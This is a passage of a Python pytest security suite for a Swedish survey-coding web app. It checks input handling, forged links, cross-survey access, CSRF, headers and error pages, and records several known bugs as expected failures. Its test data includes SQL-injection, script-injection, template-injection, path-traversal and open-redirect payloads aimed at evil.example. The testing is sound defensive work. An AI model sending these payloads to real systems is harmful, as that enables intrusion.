    assert "För mycket text på en gång" in page_of(reply)
    assert "Traceback" not in page_of(reply)
    assert db.answers(response_id) == {"fritext": "Kurator", "beskrivning": "Tät samverkan."}
    assert client.get("/s/hostil/2").status_code == 200, "the respondent can go on"


BAD_BYTES = b"Kurator\xff\xfe\x00\x1b p\xc3\xa5 skolan\xc3"  # invalid UTF-8, NUL, ESC


def raw_post(
    client: FlaskClient, url: str, fields: dict[str, str | bytes], **kwargs: Any
) -> TestResponse:
    """A form post with bytes no browser would send, percent-encoded as they are."""
    body = "&".join(
        f"{k}={quote_from_bytes(v if isinstance(v, bytes) else v.encode())}"
        for k, v in fields.items()
    )
    return client.post(url, data=body, content_type="application/x-www-form-urlencoded", **kwargs)


def test_invalid_utf8_and_null_bytes_never_cause_a_server_error(
    app: Flask, db: Store, team: dict
) -> None:
    sid = team["survey"]["id"]
    survey = hostile_questionnaire_survey(db)
    respondent = app.test_client()
    replies: dict[str, TestResponse] = {}
    tokens = form_tokens(respondent, "/s/hostil/1")
    replies["answer"] = raw_post(
        respondent,
        "/s/hostil/1",
        {**tokens, "fritext": BAD_BYTES, "beskrivning": BAD_BYTES, "val": b"\xff\x00"},
    )
    replies["answer again"] = raw_post(
        respondent, "/s/hostil/1", {**form_tokens(respondent, "/s/hostil/1"), "fritext": BAD_BYTES}
    )
    resume = form_tokens(app.test_client(), "/s/demo/resume")
    replies["resume code"] = raw_post(
        app.test_client(), "/s/demo/resume", {**resume, "code": BAD_BYTES}
    )
    login = app.test_client()
    replies["sign-in"] = raw_post(
        login, "/login", {**form_tokens(login, "/login"), "email": BAD_BYTES, "password": BAD_BYTES}
    )
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    csrf = token(evaluator)
    base = f"/coding/surveys/{sid}"
    answer = team["answers"][0]["id"]
    posts = {
        "memo": (f"{base}/memos", {"target": "survey", "target_id": str(sid), "body": BAD_BYTES}),
        "memo target": (
            f"{base}/memos",
            {"target": BAD_BYTES, "target_id": BAD_BYTES, "body": "x"},
        ),
        "code": (f"{base}/codebook/codes", {"label": BAD_BYTES, "description": BAD_BYTES}),
        "coding": (
            f"{base}/answers/{answer}/codings",
            {"code_id": BAD_BYTES, "start": BAD_BYTES, "end": "3", "quote": BAD_BYTES},
        ),
        "merge": (f"{base}/codebook/merge", {"source": BAD_BYTES, "target": BAD_BYTES}),
    }
    for name, (url, fields) in posts.items():
        replies[name] = raw_post(evaluator, url, {"csrf_token": csrf, **fields})
        replies[f"{name} (json)"] = raw_post(
            evaluator, url, {"csrf_token": csrf, **fields}, headers=JSON
        )
    for name, url in {
        "workbench search": f"{base}?q=%FF%00%22&question=%FF&code=%00&attr_x%FF=%00",
        "browser search": f"/responses/surveys/{sid}?q=%FF%FE%00&question=%00&status=%FF",
        "queue": f"{base}/queue?question=%FF%00&skip=%00",
        "memos": f"{base}/memos?target=%FF&target_id=%00",
        "keyword preview": f"{base}/codebook/preview?keywords_sv=%FF%00",
        "report": f"/reports/surveys/{sid}/%FF%00/",
        "invitation link": "/i/%FF%FE%00",
        "public link": "/s/%FF%00/1",
    }.items():
        replies[name] = evaluator.get(url)
    admin = staff(app, db, ADMIN, "admin")
    personal = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    tokens = form_tokens(admin, f"/admin/surveys/{personal['id']}")
    for name, content in {
        "people not utf-8": b"namn;e-post\n\xc5sa;asa@example.org\n",
        "people with nul": b"namn;e-post;stadsdel\n\x00;a\x00@example.org;J\x00\n",
    }.items():
        replies[name] = admin.post(
            f"/admin/surveys/{personal['id']}/invitations",
            data={**tokens, "people": (io.BytesIO(content), "p.csv")},
            content_type="multipart/form-data",
        )
    replies["codebook not utf-8"] = evaluator.post(
        f"{base}/codebook/import",
        data={
            "csrf_token": csrf,
            "file": (io.BytesIO(b'[[codes]]\nlabel = "\xff\x00"\n'), "k.toml"),
        },
        content_type="multipart/form-data",
    )
    replies["survey title"] = raw_post(
        admin,
        "/admin/surveys/new",
        {**form_tokens(admin, "/admin/surveys/new"), "title": BAD_BYTES, "slug": BAD_BYTES},
    )
    failed = {name: r.status_code for name, r in replies.items() if r.status_code >= 500}
    assert failed == {}, failed
    for name, reply in replies.items():
        assert "Traceback" not in page_of(reply), name
    assert "Välj ett av alternativen." in page_of(replies["answer"])
    assert db.count_responses(survey["id"]) == 1, "only the page without a forged choice"


def test_no_null_byte_or_control_character_from_a_respondent_is_stored(
    app: Flask, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db)
    respondent = app.test_client()
    for page, fields in (
        (1, {"fritext": BAD_BYTES, "beskrivning": BAD_BYTES}),
        (2, {"mer": b"\x00\x00Mer\x00 text\x07\x1b\x7f"}),
    ):
        url = f"/s/hostil/{page}"
        reply = raw_post(respondent, url, {**form_tokens(respondent, url), **fields})
        assert reply.status_code == 302, page
    stored = db.answers(latest_response_id(db, survey["id"]))
    assert set(stored) == {"fritext", "beskrivning", "mer"}
    # Invalid UTF-8 arrives as the escapes the browser sent; the text around it is kept.
    assert stored["fritext"].startswith("Kurator") and "på skolan" in stored["fritext"]
    assert stored["mer"] == "Mer text"
    bad = [
        (t, c, v)
        for t, c, v in all_text_values(db)
        if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", v)
    ]
    assert bad == [], bad[:3]


@pytest.mark.xfail(
    strict=True,
    reason="BUG: NUL bytes typed by staff or read from an invitation file are stored: memo "
    "bodies (coding.memos), code labels and descriptions (codebook_editor.add_code) and "
    "invitation attributes (invitations.read) keep '\\x00' (only respondent answers are "
    "cleaned, survey/forms.py _clean_text)",
)
def test_no_null_byte_typed_by_staff_or_read_from_a_file_is_stored(
    app: Flask, db: Store, team: dict
) -> None:
    sid = team["survey"]["id"]
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    csrf = token(evaluator)
    base = f"/coding/surveys/{sid}"
    raw_post(
        evaluator,
        f"{base}/memos",
        {"csrf_token": csrf, "target": "survey", "target_id": str(sid), "body": b"Ring\x00 hem"},
    )
    raw_post(
        evaluator,
        f"{base}/codebook/codes",
        {"csrf_token": csrf, "label": b"Sko\x00la", "description": b"Be\x00skrivning"},
    )
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    admin = staff(app, db, ADMIN, "admin")
    _upload_people(admin, survey["id"], b"namn;e-post;stadsdel\nAsa;asa@example.org;J\x00rva\n")
    stored = {(t, c) for t, c, v in all_text_values(db) if "\x00" in v}
    assert stored == set(), f"NUL bytes stored in {sorted(stored)}"


# --- forged links ----------------------------------------------------------------------

FORGED_TOKENS = [
    secrets.token_urlsafe(24),
    "x",
    "A" * 43,
    "a" * 5000,
    f"<script>{SENTINEL}</script>",
    "' OR 1=1 --",
    "{{7*7}}",
    "ÅÄÖ-😀\u202e",
    "..%2F..%2Fadmin",
    "token\x00",
]


def test_forged_invitation_links_get_the_friendly_not_found_page(app: Flask, db: Store) -> None:
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    invite(db, survey)
    before = db_snapshot(db)
    browser = app.test_client()
    csrf = form_tokens(browser, "/s/demo/1")
    for forged in FORGED_TOKENS:
        base = f"/i/{quote(forged, safe='')}"
        replies = [browser.get(base + suffix) for suffix in ("", "/1", "/2", "/review", "/done")]
        replies += [
            browser.post(f"{base}/1", data={**csrf, "fritext": "x"}),
            browser.post(f"{base}/review", data=csrf),
        ]
        for reply in replies:
            html = page_of(reply)
            assert reply.status_code == 404, (
                forged[:20],
                reply.request.path[:40],
                reply.status_code,
            )
            assert "Länken fungerar inte" in html or "Sidan finns inte" in html, forged[:20]
            assert_inert(html, f"forged token {forged[:20]!r}")
            assert "Traceback" not in html
    assert db_snapshot(db) == before, "a forged link stores nothing"


def test_two_hundred_guessed_links_and_resume_codes_find_nothing(app: Flask, db: Store) -> None:
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    real = [invite(db, survey) for _ in range(20)]
    guesses = [secrets.token_urlsafe(24) for _ in range(180)]
    # Near misses: a real link with one character changed.
    guesses += [t[:-1] + ("A" if t[-1] != "A" else "B") for t in real]
    browser = app.test_client()
    statuses = {browser.get(f"/i/{guess}/1").status_code for guess in guesses}
    assert statuses == {404}
    assert browser.get(f"/i/{real[0]}/1").status_code == 200, "a real link still works"
    post_form(app.test_client(), "/s/demo/1", {"q1_roll": "Rektor"})  # a started response
    started = db.count_responses(db.survey("demo")["id"])
    guesser = app.test_client()
    tokens = form_tokens(guesser, "/s/demo/resume")
    alphabet = "ABCDEFGHJKMNPQRSTUVWXYZ23456789"
    for _ in range(200):
        code = "".join(secrets.choice(alphabet) for _ in range(10))
        reply = guesser.post("/s/demo/resume", data={**tokens, "code": f"{code[:5]}-{code[5:]}"})
        assert reply.status_code == 200
        assert "Vi hittar ingen påbörjad enkät med den koden." in page_of(reply)
    assert db.count_responses(db.survey("demo")["id"]) == started


# --- other surveys' ids (IDOR) ---------------------------------------------------------

SECRET = "HEMLIGT-B"  # in every text of the other survey, so a leak is easy to see


@dataclass
class TwoSurveys:
    """Survey A (the demo, where the evaluator works) and survey B (someone else's), each
    with answers, codes, codings, suggestions, memos, a sample and a pending merge."""

    a: dict[str, int]
    b: dict[str, int]
    evaluator: FlaskClient
    viewer: FlaskClient
    admin: FlaskClient


def _populate(db: Store, survey: dict, team: dict, prefix: str) -> dict[str, int]:
    from analysis.codebook import bundled
    from survey.suggest import code_survey
    from survey.training import CODEBOOK_LANGUAGE

    sid = survey["id"]
    if not db.codes(sid):
        edit.import_toml(db, sid, team["admin"], bundled().read_bytes(), "codebook_sst.toml")
    if not db.open_answers(sid):
        ids = db.question_ids(survey["version_id"])
        for answer in team["answers"][:6]:
            response = db.create_response(sid, "sv", attributes={"stadsdel": prefix})
            db.save_answers(
                response, {ids[answer["question"]]: f"{prefix} {answer['text']}"}, page=3
            )
    answers = db.open_answers(sid)
    codes = db.codes(sid)
    coding_actions.add_coding(db, sid, team["admin"], answers[0]["id"], codes[0]["id"])
    coding = db.visible_codings([answers[0]["id"]], team["admin"])[0]["id"]
    code_survey(db, sid, edit.to_codebook(db, db.survey_by_id(sid), CODEBOOK_LANGUAGE))
    suggestion = db.db.execute(
        "SELECT s.id FROM suggestions s JOIN answers a ON a.id = s.answer_id "
        "JOIN responses r ON r.id = a.response_id WHERE r.survey_id = ? LIMIT 1",
        (sid,),
    ).fetchone()[0]
    memo = db.add_memo(sid, "answer", answers[0]["id"], team["admin"], f"{prefix} memo", now())
    sample = db.create_sample(
        sid, f"{prefix} prov", 0.5, team["admin"], [answers[1]["id"]], [team["admin"]], now()
    )
    entry = edit.merge(db, sid, team["admin"], codes[-1]["id"], codes[-2]["id"])
    return {
        "survey_id": sid,
        "answer_id": answers[1]["id"],
        "response_id": answers[1]["response_id"],
        "coding_id": coding,
        "suggestion_id": suggestion,
        "code_id": codes[0]["id"],
        "memo_id": memo,
        "sample_id": sample,
        "entry_id": entry,
    }


@pytest.fixture
def two(app: Flask, db: Store, team: dict) -> TwoSurveys:
    other = new_survey(db, "chefsenkat", "hemlig")
    b = _populate(db, other, team, SECRET)
    a = _populate(db, team["survey"], team, "Demo")
    return TwoSurveys(
        a,
        b,
        staff(app, db, "eva@example.org", "evaluator", a["survey_id"]),
        staff(app, db, "vera@example.org", "viewer", a["survey_id"]),
        staff(app, db, ADMIN, "admin"),
    )


STAFF_BLUEPRINTS = ("coding", "codebook", "agreement", "reports", "responses")
NOT_PER_SURVEY = {"coding.index", "reports.index"}
ROUTE_VALUES = {
    "fmt": "csv",
    "what": "codings",
    "decision": "accept",
    "name": "figur.png",
    "report_lang": "sv",
}
FORMATS = {"reports.download": "docx", "codebook.export": "toml"}


def staff_urls(app: Flask, ids: dict[str, int]) -> list[tuple[str, str, str, set[str]]]:
    """(endpoint, method, url, ids in the url) of every per-survey staff route, filled
    with `ids`."""
    from flask import url_for

    routes = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint.split(".")[0] not in STAFF_BLUEPRINTS or rule.endpoint in NOT_PER_SURVEY:
            continue
        values = {**ROUTE_VALUES, **ids}
        if rule.endpoint in FORMATS:
            values["fmt"] = FORMATS[rule.endpoint]
        if rule.endpoint == "codebook.settle_merge":
            values["decision"] = "undo"
        with app.test_request_context():
            url = url_for(rule.endpoint, **{a: values[a] for a in rule.arguments})
        named = set(rule.arguments) & set(ids)
        for method in sorted((rule.methods or set()) & {"GET", "POST"}):
            routes.append((rule.endpoint, method, url, named))
    return routes


def test_an_evaluator_gets_not_found_for_every_page_and_action_of_another_survey(
    app: Flask, db: Store, two: TwoSurveys
) -> None:
    before = db_snapshot(db)
    routes = staff_urls(app, two.b)
    assert len(routes) >= 30, "the walk covers the per-survey routes"
    b = two.b
    # What the page's forms would send, naming B's things.
    body = {
        "csrf_token": token(two.evaluator),
        "code_id": b["code_id"],
        "answer": b["answer_id"],
        "target": "answer",
        "target_id": b["answer_id"],
        "body": "memo",
        "label": "Ny kod",
        "stance": "success",
        "coding": b["coding_id"],
        "code": b["code_id"],
        "percent": 10,
    }
    for endpoint, method, url, _ in routes:
        for headers in ({}, JSON):
            if method == "GET":
                reply = two.evaluator.get(url, headers=headers)
            else:
                reply = two.evaluator.post(url, data=body, headers=headers)
            expected = 403 if endpoint == "agreement.new_sample" else 404  # admins only
            assert reply.status_code == expected, (endpoint, method, url, reply.status_code)
            assert SECRET not in page_of(reply), (endpoint, method, "leaks survey B")
    for endpoint, method, url, _ in routes:
        if endpoint.startswith("reports.") and method == "GET":
            assert two.viewer.get(url).status_code == 404, ("viewer", endpoint)
    assert db_snapshot(db) == before, "nothing of survey B changed"


def test_ids_of_another_survey_under_ones_own_survey_are_refused_and_change_nothing(
    app: Flask, db: Store, two: TwoSurveys
) -> None:
    a, b = two.a, two.b
    before = db_snapshot(db)
    mixed = {**b, "survey_id": a["survey_id"]}  # A's pages, B's ids
    csrf = token(two.evaluator)
    own = {"csrf_token": csrf, "code_id": a["code_id"], "answer": a["answer_id"], "body": "x"}
    for endpoint, method, url, named in staff_urls(app, mixed):
        if named == {"survey_id"}:
            continue  # nothing of B's in this url
        if method == "GET":
            reply = two.evaluator.get(url, headers=JSON)
        else:
            reply = two.evaluator.post(url, data=own, headers=JSON)
        refused = reply.status_code in (404, 409) or (
            reply.status_code == 302
            and reply.headers["Location"].startswith(f"/coding/surveys/{a['survey_id']}")
        )
        assert refused, (endpoint, method, url, reply.status_code)
        assert SECRET not in page_of(reply), (endpoint, url, "leaks survey B")
    base = f"/coding/surveys/{a['survey_id']}"
    own_answer, own_code = a["answer_id"], a["code_id"]
    bodies: list[tuple[str, dict[str, Any]]] = [
        (f"{base}/answers/{own_answer}/codings", {"code_id": b["code_id"]}),
        (f"{base}/suggestions/{b['suggestion_id']}/accept", {"answer": b["answer_id"]}),
        (f"{base}/memos", {"target": "answer", "target_id": b["answer_id"], "body": "x"}),
        (f"{base}/memos", {"target": "coding", "target_id": b["coding_id"], "body": "x"}),
        (f"{base}/memos", {"target": "code", "target_id": b["code_id"], "body": "x"}),
        (f"{base}/memos", {"target": "survey", "target_id": b["survey_id"], "body": "x"}),
    ]
    for url, fields in bodies:
        reply = two.evaluator.post(url, data={"csrf_token": csrf, **fields}, headers=JSON)
        assert reply.status_code in (404, 409), (url, fields, reply.status_code)
        assert SECRET not in page_of(reply), (url, fields)
    forms: list[tuple[str, dict[str, Any], str]] = [
        (f"{base}/codebook/merge", {"source": b["code_id"], "target": own_code}, "finns inte"),
        (f"{base}/codebook/merge", {"source": own_code, "target": b["code_id"]}, "finns inte"),
        (
            f"{base}/codebook/codes/{own_code}/reassign",
            {"coding": b["coding_id"], "target": own_code},
            "finns inte",
        ),
        (
            f"{base}/codebook/codes/{own_code}",
            {"label": "Ny", "parent_id": b["code_id"]},
            "Den överordnade koden finns inte.",
        ),
        (
            f"{base}/codebook/codes",
            {"label": "Ny", "parent_id": b["code_id"]},
            "Den överordnade koden finns inte.",
        ),
        (
            f"{base}/agreement/samples/{a['sample_id']}/answers/{b['answer_id']}/consensus",
            {"code": own_code},
            "finns inte",
        ),
    ]
    for url, fields, message in forms:
        reply = two.evaluator.post(url, data={"csrf_token": csrf, **fields}, follow_redirects=True)
        html = page_of(reply)
        assert message in html, (url, fields)
        assert SECRET not in html, (url, fields)
    for url in (
        f"{base}/memos?target=answer&target_id={b['answer_id']}",
        f"{base}/agreement?sample={b['sample_id']}",
        f"{base}/agreement/samples/{b['sample_id']}/disagreements",
    ):
        assert two.evaluator.get(url, headers=JSON).status_code == 404, url
    filtered = two.evaluator.get(f"{base}?sample={b['sample_id']}&code={b['code_id']}")
    assert filtered.status_code == 200 and SECRET not in page_of(filtered)
    assert db_snapshot(db) == before, "nothing changed in either survey"


# --- forged requests (CSRF) ------------------------------------------------------------

CSRF_EXEMPT = {  # answer pages check the token themselves and keep what was typed
    "respond.public_page",
    "respond.invite_page",
    "respond.public_review",
    "respond.invite_review",
}


def all_post_urls(app: Flask, values: dict[str, Any]) -> list[tuple[str, str]]:
    from flask import url_for

    urls = []
    for rule in app.url_map.iter_rules():
        if "POST" not in (rule.methods or set()):
            continue
        args = {**ROUTE_VALUES, **values}
        if rule.endpoint in FORMATS:
            args["fmt"] = FORMATS[rule.endpoint]
        with app.test_request_context():
            urls.append(
                (rule.endpoint, url_for(rule.endpoint, **{a: args[a] for a in rule.arguments}))
            )
    return urls


def test_every_state_changing_route_refuses_a_missing_or_forged_csrf_token(
    app: Flask, db: Store, two: TwoSurveys
) -> None:
    personal = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    values = {
        **two.a,
        "slug": "demo",
        "number": 1,
        "token": invite(db, personal),
        "change": "close",
        "kind": "remind",
        "decision": "undo",
    }
    urls = all_post_urls(app, values)
    assert len(urls) >= 30, "the walk covers every POST route"
    stolen = token(two.evaluator)  # valid, but for another session
    fields = {
        "body": "memo",
        "code_id": two.a["code_id"],
        "label": "Ny kod",
        "q1_roll": "Rektor",
        "fritext": "Kurator",
        "email": ADMIN,
        "password": PASSWORD,
        "title": "Ny",
        "user_id": 1,
    }
    before = db_snapshot(db)
    for endpoint, url in urls:
        for forged in (None, "", "forfalskad", stolen):
            for headers in ({}, JSON):
                data = dict(fields) if forged is None else {**fields, "csrf_token": forged}
                reply = two.admin.post(url, data=data, headers=headers)
                html = page_of(reply)
                if endpoint in CSRF_EXEMPT:
                    assert reply.status_code in (200, 302), (endpoint, forged, reply.status_code)
                    if reply.status_code == 200:
                        assert "Av säkerhetsskäl behövde sidan laddas om" in html, endpoint
                    continue
                assert reply.status_code == 400, (endpoint, url, forged, reply.status_code)
                assert "Sidan hann bli för gammal" in html, endpoint
    assert db_snapshot(db) == before, "no forged request changed anything"
    assert two.admin.get("/admin/").status_code == 200, "a forged sign-out did not sign out"


# --- headers and error pages -----------------------------------------------------------


def policy(reply: TestResponse) -> dict[str, list[str]]:
    header = reply.headers.get("Content-Security-Policy", "")
    parts = [p.split() for p in header.split(";") if p.strip()]
    return {p[0]: p[1:] for p in parts}


def assert_security_headers(reply: TestResponse, where: str) -> None:
    csp = policy(reply)
    scripts = csp.get("script-src", csp.get("default-src"))
    assert scripts, f"{where}: no script-src"
    for loose in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"):
        assert loose not in scripts, f"{where}: script-src allows {loose}"
    assert csp.get("frame-ancestors") == ["'none'"], where
    assert csp.get("object-src") == ["'none'"], where
    assert csp.get("base-uri") == ["'none'"], where
    assert reply.headers.get("X-Content-Type-Options") == "nosniff", where
    assert reply.headers.get("Referrer-Policy") == "no-referrer", where
    assert reply.headers.get("X-Frame-Options") == "DENY", where


def test_every_kind_of_page_sends_the_security_headers(
    app: Flask, db: Store, two: TwoSurveys, monkeypatch: pytest.MonkeyPatch
) -> None:
    a = two.a
    sid = a["survey_id"]
    respondent = app.test_client()
    personal = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    link = invite(db, personal)
    closed = hostile_questionnaire_survey(db, "stangd")
    db.set_survey_status(closed["id"], "closed")
    respondent_pages = {
        "start": respondent.get("/s/demo"),
        "page": respondent.get("/s/demo/1"),
        "page with errors": post_form(respondent, "/s/demo/1", {"q1_roll": ""}),
        "page after submit": post_form(respondent, "/s/demo/1", {"q1_roll": "Rektor"}),
        "stale page": respondent.post("/s/demo/2", data={"csrf_token": "gammal"}),
        "review": respondent.get("/s/demo/review"),
        "resume": app.test_client().get("/s/demo/resume"),
        "done": app.test_client().get("/s/demo/done"),
        "invitation": app.test_client().get(f"/i/{link}/1"),
        "unknown link": app.test_client().get("/i/finns-inte/1"),
        "closed survey": app.test_client().get("/s/stangd/1"),
        "personal link needed": app.test_client().get("/s/personlig/1"),
        "too large": respondent.post("/s/demo/1", data={"q1_roll": "x" * (3 * 1024 * 1024)}),
    }
    statuses = {name: r.status_code for name, r in respondent_pages.items()}
    assert {410, 404, 403, 413, 200, 302} <= set(statuses.values()), statuses
    for name, reply in respondent_pages.items():
        assert_security_headers(reply, f"respondent: {name}")
        if "text/html" in reply.headers.get("Content-Type", ""):
            assert reply.headers.get("Cache-Control") == "no-store", name
    base = f"/coding/surveys/{sid}"
    answer = a["answer_id"]
    staff_pages = {
        "home": app.test_client().get("/"),
        "sign-in": app.test_client().get("/login"),
        "admin": two.admin.get("/admin/"),
        "admin survey": two.admin.get(f"/admin/surveys/{sid}"),
        "responses csv": two.admin.get(f"/admin/surveys/{sid}/export.csv"),
        "responses xlsx": two.admin.get(f"/admin/surveys/{sid}/export.xlsx"),
        "workbench": two.evaluator.get(base),
        "question view": two.evaluator.get(f"{base}?question=q2_framgang"),
        "queue": two.evaluator.get(f"{base}/queue"),
        "memos": two.evaluator.get(f"{base}/memos"),
        "codebook": two.evaluator.get(f"{base}/codebook"),
        "code": two.evaluator.get(f"{base}/codebook/codes/{a['code_id']}"),
        "codes.css": two.evaluator.get(f"{base}/codes.css"),
        "keyword preview json": two.evaluator.get(f"{base}/codebook/preview?keywords_sv=skola"),
        "training json": two.evaluator.get(f"{base}/train", headers=JSON),
        "cell json": two.evaluator.post(
            f"{base}/answers/{answer}/codings",
            data={"csrf_token": token(two.evaluator), "code_id": a["code_id"]},
            headers=JSON,
        ),
        "refusal json": two.evaluator.post(
            f"{base}/answers/{answer}/codings",
            data={"csrf_token": token(two.evaluator), "code_id": 0},
            headers=JSON,
        ),
        "agreement": two.evaluator.get(f"{base}/agreement"),
        "browser": two.evaluator.get(f"/responses/surveys/{sid}"),
        "response": two.evaluator.get(f"/responses/{a['response_id']}"),
        "reports": two.viewer.get("/reports/"),
        "report": two.viewer.get(f"/reports/surveys/{sid}/sv/"),
        "static css": app.test_client().get("/static/style.css"),
        "static js": app.test_client().get("/static/coding.js"),
        "403": two.evaluator.get("/admin/"),
        "404": two.evaluator.get("/coding/surveys/9999"),
        "405": two.evaluator.get(f"{base}/undo"),
        "400 csrf": two.evaluator.post(f"{base}/undo"),
    }
    monkeypatch.setattr(Store, "codebook_log", _boom)
    staff_pages["500"] = two.evaluator.get(f"{base}/codebook")
    for name, reply in staff_pages.items():
        assert_security_headers(reply, f"staff: {name}")
    assert staff_pages["500"].status_code == 500


def _boom(*_args: Any, **_kwargs: Any) -> Any:
    raise RuntimeError("Traceback (most recent call last): File /srv/survey/db.py HEMLIG-DETALJ")


def _database_down(*_args: Any, **_kwargs: Any) -> Any:
    from survey.db import DatabaseError

    raise DatabaseError("/srv/instance/survey.db is read-only HEMLIG-DETALJ")


def test_error_pages_never_show_a_stack_trace_or_internal_detail(
    app: Flask, db: Store, two: TwoSurveys, monkeypatch: pytest.MonkeyPatch
) -> None:
    sid = two.a["survey_id"]
    base = f"/coding/surveys/{sid}"
    csrf = token(two.evaluator)
    replies = {
        "malformed survey id": two.evaluator.get("/coding/surveys/abc"),
        "negative id": two.evaluator.get("/coding/surveys/-1"),
        "huge survey id": two.evaluator.get(f"/coding/surveys/{10**30}"),
        "huge response id": two.evaluator.get(f"/responses/{10**30}"),
        "huge code id": two.evaluator.get(f"{base}/codebook/codes/{10**30}"),
        "huge code in a form": two.evaluator.post(
            f"{base}/answers/{two.a['answer_id']}/codings",
            data={"csrf_token": csrf, "code_id": str(10**30)},
            headers=JSON,
        ),
        "huge memo target": two.evaluator.post(
            f"{base}/memos",
            data={"csrf_token": csrf, "target": "answer", "target_id": str(10**30), "body": "x"},
        ),
        "bad page number": app.test_client().get("/s/demo/0"),
        "huge page number": app.test_client().get(f"/s/demo/{10**30}"),
        "bad format": two.evaluator.get(f"{base}/export/codings.exe"),
        "bad report language": two.evaluator.get(f"/reports/surveys/{sid}/xx/"),
        "bad figure name": two.evaluator.get(f"/reports/surveys/{sid}/sv/figures/..%2Fx.png"),
    }
    monkeypatch.setattr(Store, "codebook_log", _boom)
    replies["unexpected exception"] = two.evaluator.get(f"{base}/codebook")
    monkeypatch.setattr(Store, "codes", _database_down)
    replies["database unavailable"] = two.evaluator.get(base)
    for name, reply in replies.items():
        html = page_of(reply)
        assert reply.status_code >= 300, name
        for leak in ("Traceback", 'File "', "HEMLIG-DETALJ", "OverflowError", "sqlite3", "/srv/"):
            assert leak not in html, (name, leak)
        if reply.status_code >= 500:
            assert "Något gick fel hos oss" in html, name
    assert replies["unexpected exception"].status_code == 500
    assert replies["database unavailable"].status_code == 503


@pytest.mark.xfail(
    strict=True,
    reason="BUG: an id too large for SQLite (e.g. /responses/1000000000000000000000000000000, "
    "or code_id/target_id in a form) raises OverflowError ('Python int too large to convert "
    "to SQLite INTEGER') and gives a 500 instead of the not-found answer, logged as an "
    "unhandled error with a stack trace",
)
def test_an_id_too_large_for_the_database_is_simply_not_found(two: TwoSurveys) -> None:
    base = f"/coding/surveys/{two.a['survey_id']}"
    csrf = token(two.evaluator)
    huge = str(10**30)
    replies = {
        "survey": two.evaluator.get(f"/coding/surveys/{huge}"),
        "response": two.evaluator.get(f"/responses/{huge}"),
        "code": two.evaluator.get(f"{base}/codebook/codes/{huge}", headers=JSON),
        "code in a form": two.evaluator.post(
            f"{base}/answers/{two.a['answer_id']}/codings",
            data={"csrf_token": csrf, "code_id": huge},
            headers=JSON,
        ),
        "memo target": two.evaluator.post(
            f"{base}/memos",
            data={"csrf_token": csrf, "target": "answer", "target_id": huge, "body": "x"},
            headers=JSON,
        ),
    }
    statuses = {name: reply.status_code for name, reply in replies.items()}
    assert all(s in (302, 404) for s in statuses.values()), statuses


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "/\\evil.example",
        "/\t/evil.example",
        "https://evil.example",
        "javascript:alert(1)",
    ],
)
def test_signing_in_never_sends_the_browser_to_another_site(
    app: Flask, db: Store, target: str
) -> None:
    from urllib.parse import urljoin

    db.create_user(ADMIN, generate_password_hash(PASSWORD), "admin")
    client = app.test_client()
    reply = client.post(
        f"/login?next={quote(target, safe='')}",
        data={**form_tokens(client, "/login"), "email": ADMIN, "password": PASSWORD},
    )
    assert reply.status_code == 302
    location = reply.headers["Location"]
    # Browsers read a backslash as a slash and drop tabs and newlines in URLs.
    as_browser = re.sub(r"[\t\n\r]", "", location.replace("\\", "/"))
    landed = urlsplit(urljoin("http://localhost/login", as_browser))
    assert landed.scheme == "http" and landed.netloc == "localhost", location


@pytest.mark.filterwarnings("ignore:Glyph")  # emoji outside the figures' font
@pytest.mark.xfail(
    strict=True,
    reason="BUG: the report page (/reports/surveys/<id>/<lang>/) holds hundreds of "
    'style="text-align: right;" attributes (Python-Markdown\'s table alignment for the '
    "numeric columns, report_render.html_fragment) that the app's own policy "
    "(style-src 'self') blocks: Chromium logs a CSP violation for each and the numbers "
    "are not right-aligned",
)
def test_no_page_relies_on_inline_style_its_policy_blocks(
    app: Flask, db: Store, coded: Coded
) -> None:
    sid = coded.corpus.id
    base = f"/coding/surveys/{sid}"
    admin = staff(app, db, ADMIN, "admin")
    pages = {
        "workbench": coded.evaluator.get(base),
        "queue": coded.evaluator.get(f"{base}/queue"),
        "memos": coded.evaluator.get(f"{base}/memos?all=1"),
        "codebook": coded.evaluator.get(f"{base}/codebook"),
        "agreement": coded.evaluator.get(f"{base}/agreement"),
        "browser": coded.evaluator.get(f"/responses/surveys/{sid}"),
        "admin survey": admin.get(f"/admin/surveys/{sid}"),
        "respondent page": app.test_client().get("/s/hostil/1"),
        "report": coded.evaluator.get(f"/reports/surveys/{sid}/sv/"),
    }
    inline = {}
    for name, reply in pages.items():
        tree = lxml_html.document_fromstring(page_of(reply))
        found = tree.xpath("//*[@style]|//style")
        if found:
            inline[name] = len(found)
    assert inline == {}, f"inline styles the policy blocks: {inline}"
